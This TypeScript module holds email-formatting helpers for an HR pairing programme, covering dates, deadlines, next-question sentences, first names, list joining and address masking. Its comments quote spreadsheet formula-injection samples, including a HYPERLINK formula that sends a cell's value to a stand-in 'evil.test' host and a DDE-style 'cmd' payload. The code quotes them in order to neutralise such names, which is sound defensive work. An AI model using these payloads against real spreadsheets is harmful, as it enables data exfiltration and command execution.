import { DEFAULT_TOPICS, topicLabel, type Topic } from '../topics';
import { dateTimeFormat } from '../intl';
import { endOfLocalDay, startOfLocalDay } from '../schedule';
import { readableName } from './display-name';

/** Dates arrive as ISO strings from the workflow state or as Date objects from handlers. */
export type DateInput = string | Date;

/**
 * "Tuesday 12 January 2027" in the recipient's own time zone: a check-in sent at 09:00 in Auckland
 * is on a different calendar day than in London, and the email must say the recipient's day.
 */
export function formatDate(date: DateInput, timeZone: string): string {
  const d = typeof date === 'string' ? new Date(date) : date;
  if (Number.isNaN(d.getTime())) {
    throw new Error(`"${String(date)}" is not a date: pass an ISO 8601 timestamp such as 2027-01-12T09:00:00Z.`);
  }
  // A calendar date (a program's start, a holiday) is that day everywhere, not midnight UTC moved
  // into the reader's zone (5 June would read 4 June in New York).
  const zone = typeof date === 'string' && /^\d{4}-\d{2}-\d{2}$/.test(date) ? 'UTC' : timeZone;
  const parts = dateTimeFormat('en-GB', { weekday: 'long', day: 'numeric', month: 'long', year: 'numeric', timeZone: zone }).formatToParts(d);
  const part = (type: Intl.DateTimeFormatPartTypes) => parts.find((p) => p.type === type)?.value ?? '';
  // en-GB puts a comma after the weekday; our house style has none.
  return `${part('weekday')} ${part('day')} ${part('month')} ${part('year')}`;
}

/**
 * The pairing's next question, as the emails that name it receive it: its date, and the review's
 * name when a milestone review comes next in place of a check-in.
 */
export interface NextQuestion {
  /** Absent when no check-in or review is left before the final review. */
  nextCheckIn?: DateInput;
  /** E.g. "Day 30 review": what comes on `nextCheckIn` when it is a review, not a check-in. */
  nextReview?: string;
  /**
   * The fit check comes first (`next`: when the round now open closes; `open`: it is out now), and
   * the next check-in waits for it to close: no date can be promised for that check-in.
   */
  fitCheck?: 'next' | 'open';
  /**
   * The pairing's first check-in, open (kept through a pause, or open when the schedule changed),
   * decides what comes next (held, it brings the fit check): no question or date can be named
   * before it closes.
   */
  openCheckIn?: boolean;
  /**
   * No check-in or milestone review is left (`nextCheckIn` is unset): the day the end-of-program
   * review reaches the reader. Only the emails of a schedule change name it (nextQuestionSentence);
   * the others keep their own "the end-of-program review comes next".
   */
  finalReviewNextOn?: DateInput;
  /**
   * The day the end-of-program review, which ends the pairing, reaches the reader, as the lifecycle
   * will ask it (pairing/final-review-day.ts): only the emails of HR's schedule change carry it, so
   * that a pairing shortened or lengthened mid-run is told its end, named after its next question.
   */
  pairingEndsOn?: DateInput;
}

/** Whether the email has something to say about what comes next (nextQuestionSentence). */
export function hasNextQuestion(next: NextQuestion): boolean {
  return next.nextCheckIn !== undefined || next.fitCheck !== undefined || next.openCheckIn === true;
}

/**
 * "The next check-in comes on …", or "Next comes your Day 30 review, on …": what the date really
 * brings; or, when the fit check comes first, that one without a date it might not keep; or, with
 * only the end-of-program review left, its day (not a question `hasNextQuestion` counts: an email
 * that names no check-in says so in its own words). With `pairingEndsOn` (a schedule change), the
 * end follows: "Your pairing ends with your end-of-program review, which comes on …", unless that
 * review is what comes next, named already.
 */
export function nextQuestionSentence(next: NextQuestion, timeZone: string): string {
  const sentence = nextQuestionAlone(next, timeZone);
  if (next.pairingEndsOn === undefined || !hasNextQuestion(next)) return sentence;
  return `${sentence} Your pairing ends with your end-of-program review, which comes on ${formatDate(next.pairingEndsOn, timeZone)}.`;
}

function nextQuestionAlone(next: NextQuestion, timeZone: string): string {
  // With a fit check, `nextReview` names what follows it (a review that takes the next check-in's place), undated.
  const after = next.nextReview ? `your ${next.nextReview}` : 'the next check-in';
  if (next.fitCheck === 'next') return `Next comes a short question on whether the pairing is a good fit for you; ${after} follows once it closes.`;
  if (next.openCheckIn)
    // Said by the welcome back after a pause and by a schedule change alike: no pause named (QA hrops5).
    // The check-in open is the first one held, not the first asked (two missed before it: QA hr8), so no ordinal.
    return 'Your current check-in is still open: please answer it if you have not yet. The next question comes once it closes.';
  if (next.fitCheck === 'open')
    return `${after.charAt(0).toUpperCase()}${after.slice(1)} follows once the question on whether the pairing is a good fit has closed.`;
  if (next.nextCheckIn === undefined)
    return next.finalReviewNextOn === undefined
      ? ''
      : `No check-ins are left, and your end-of-program review comes next, on ${formatDate(next.finalReviewNextOn, timeZone)}.`;
  const on = formatDate(next.nextCheckIn, timeZone);
  return next.nextReview ? `Next comes your ${next.nextReview}, on ${on}.` : `The next check-in comes on ${on}.`;
}

/**
 * A deadline as a day the reader can trust: "Please answer by Monday" must hold until Monday ends
 * where they are. So the day named is the last one, in their zone, that ends at or before the
 * deadline: a deadline partway through a day names the day before. (The lifecycle sets its
 * deadlines at the end of a day, functions/domain/pairing/decide.ts, so the day named is the
 * deadline's own.)
 */
export function formatDeadline(deadline: DateInput, timeZone: string): string {
  const d = typeof deadline === 'string' ? new Date(deadline) : deadline;
  if (Number.isNaN(d.getTime())) return formatDate(deadline, timeZone); // throws, saying what to pass
  const whole = endOfLocalDay(d, timeZone).getTime() <= d.getTime();
  return formatDate(whole ? d : new Date(startOfLocalDay(d, timeZone).getTime() - 1), timeZone);
}

/** What may follow a comma after a whole name ("Ada Lovelace, PhD"): not a first name. */
const NAME_SUFFIX = /^(jr|sr|ii|iii|iv|v|phd|md|mba|msc|bsc|ma|ba|esq|obe|mbe|cbe)\.?$/i;

/**
 * A word that can be someone's first name: it has a letter, and does not start as a spreadsheet
 * formula or a quoted fragment does (= + - @, a quote). Names are stored as typed (docs/emails.md):
 * `=HYPERLINK("http://evil.test/?x="&A1,"Click me")` must not greet anyone as `"Click`.
 */
const NAME_LIKE = /^(?![=+\-@"'`\u2018\u2019\u201C\u201D])(?=.*\p{L})/su;

/** The first name a stored name gives (firstNameOf), or undefined when the word it gives is no name (NAME_LIKE). */
function nameLikeFirstName(name: string): string | undefined {
  const whole = name.trim();
  const comma = whole.indexOf(',');
  if (comma > 0) {
    const after =
      whole
        .slice(comma + 1)
        .trim()
        .split(/[\s,]+/)[0] ?? '';
    if (after !== '' && !NAME_SUFFIX.test(after)) return NAME_LIKE.test(after) ? after : undefined;
  }
  const first = whole.split(/[\s,]+/)[0] ?? '';
  return NAME_LIKE.test(first) ? first : undefined;
}

/**
 * Greetings and partner mentions use first names only, whatever the stored name holds. A name
 * written "Last, First" (HR exports often are: "Lovelace, Ada") gives the word after the comma;
 * "Ada Lovelace, Jr." keeps its first word. A word that is no name (NAME_LIKE: a fragment in
 * quotes, no letter at all) gives the whole name as stored instead: a mention says what HR typed,
 * never a piece of it. A name that starts as a spreadsheet formula is read as emails show it
 * (display-name.ts: `=HYPERLINK("…","Click me")` is "Click me", so "Click"); one with nothing
 * readable in it stays whole here, for what matches names (an erasure, a reply naming a partner):
 * an email that names someone says it in words then (partnerFirstName, firstNameOr).
 */
export function firstNameOf(name: string): string {
  return firstNameOr(name, name.trim());
}

/** firstNameOf, or the words for the person (`standIn`: "your report") when their name is a formula with nothing readable in it. */
export function firstNameOr(name: string, standIn: string): string {
  const shown = readableName(name);
  return shown === undefined ? standIn : (nameLikeFirstName(shown) ?? shown);
}

/**
 * A person whose data was erased keeps an empty name: their tombstone has none, and an email held
 * for working hours loses its copy of it (functions/domain/erasure.ts). Emails that would name them
 * say who they were in words instead, never an empty name ("the goals you and  set"). So do they
 * for a name that starts as a formula and holds nothing readable (display-name.ts).
 */
export const ERASED_PARTNER = 'your partner';
/** The same for admins, who read people by full name (as the local console says it, docs/local.md). */
export const ERASED_PERSON = 'an erased participant';
/** A name that starts as a formula and holds nothing readable, as admins read it: the reference finds the record. */
export const UNREADABLE_PERSON = 'a participant with no readable name';

const isErasedName = (name: string | undefined) => name === undefined || name.trim() === '';

/** The partner as a participant's email names them: their first name (firstNameOf), or "your partner" once erased or with no readable name. */
export function partnerFirstName(name: string): string {
  return isErasedName(name) ? ERASED_PARTNER : firstNameOr(name, ERASED_PARTNER);
}

/**
 * A person as an admin's email names them: their full name as stored, as emails show it (a name
 * that starts as a formula by its readable part, display-name.ts), or in words when there is none
 * to show: "an erased participant", "a participant with no readable name".
 */
export function fullNameOrErased(name: string): string {
  return isErasedName(name) ? ERASED_PERSON : (readableName(name) ?? UNREADABLE_PERSON);
}

/** A sentence that may start with a stand-in for a name ("your partner has left"): its first letter capitalised. */
export function capitalised(text: string): string {
  return text.charAt(0).toUpperCase() + text.slice(1);
}

/**
 * Greets by first name, or plainly when the name is unknown (a manager known by email only) or
 * gives no first name (NAME_LIKE: "Hello +SUM(1+1)*cmd|'," greets nobody).
 */
export function greeting(name: string | undefined): string {
  const first = name === undefined ? undefined : nameLikeFirstName(name);
  return first === undefined ? 'Hello,' : `Hello ${first},`;
}

/**
 * Statements written one after another, each a sentence of its own: "Ana can help Mo with AI tools.
 * Both care about chess and jazz." Each reason or trade-off is a whole sentence that starts with a
 * capital ("Both care about …"), so a semicolon between them would leave a capital mid-sentence
 * ("…; Both care about …"), and lowering it would lower a name ("…; ana Souza can help …").
 */
export function asSentences(items: readonly string[]): string {
  return items.map((item) => capitalised(item.trim()).replace(/(?<![.!?])$/, '.')).join(' ');
}

/** An item that holds a comma or the word "and" ("Social media and creator platforms", "Chen, Wei"). */
const JOINS_ITSELF = /,|\band\b/i;

/**
 * Every list written in prose (topic labels, names, pairs): "a", "a and b", "a, b and c". When an
 * item holds a comma or the word "and", commas and a final "and" would not tell where one item ends
 * ("AI tools, Social media and creator platforms and Strategy"; "Ben Okafor with Chen, Wei"), so the
 * items are set off by semicolons instead: "a; b; and c", "a; and b".
 */
export function joinAnd(items: readonly string[]): string {
  if (items.length <= 1) return items[0] ?? '';
  const [comma, and] = items.some((item) => JOINS_ITSELF.test(item)) ? ['; ', '; and '] : [', ', ' and '];
  return `${items.slice(0, -1).join(comma)}${and}${items[items.length - 1]}`;
}

/**
 * "Priya Patel's first choice", but "the first choice of Chen, Wei": a name written "Last, First"
 * takes no possessive, which would read as a list ("AI tools, Chen, Wei's first choice").
 */
export function possessive(name: string, thing: string): string {
  return name.includes(',') ? `the ${thing} of ${name}` : `${name}'s ${thing}`;
}

export function topicLabels(ids: readonly string[], catalogue: readonly Topic[] = DEFAULT_TOPICS): string[] {
  return ids.map((id) => topicLabel(id, catalogue));
}

/** Subjects travel in a header: collapse line breaks so no input can start a new header line. */
export function oneLine(text: string): string {
  return text
    .replace(/[\r\n\t]+/g, ' ')
    .replace(/\s{2,}/g, ' ')
    .trim();
}

/** Shows enough of an address for its owner to recognise it, without repeating it in full. */
export function maskAddress(address: string): string {
  const at = address.lastIndexOf('@');
  if (at <= 0) return '***';
  const local = address.slice(0, at);
  return `${local[0]}${'*'.repeat(Math.min(3, Math.max(1, local.length - 1)))}${address.slice(at)}`;
}

/** "1 meeting", "2 meetings": a count with its noun in agreement (regular plurals unless given). */
export function countOf(n: number, singular: string, plural = `${singular}s`): string {
  return `${n} ${n === 1 ? singular : plural}`;
}
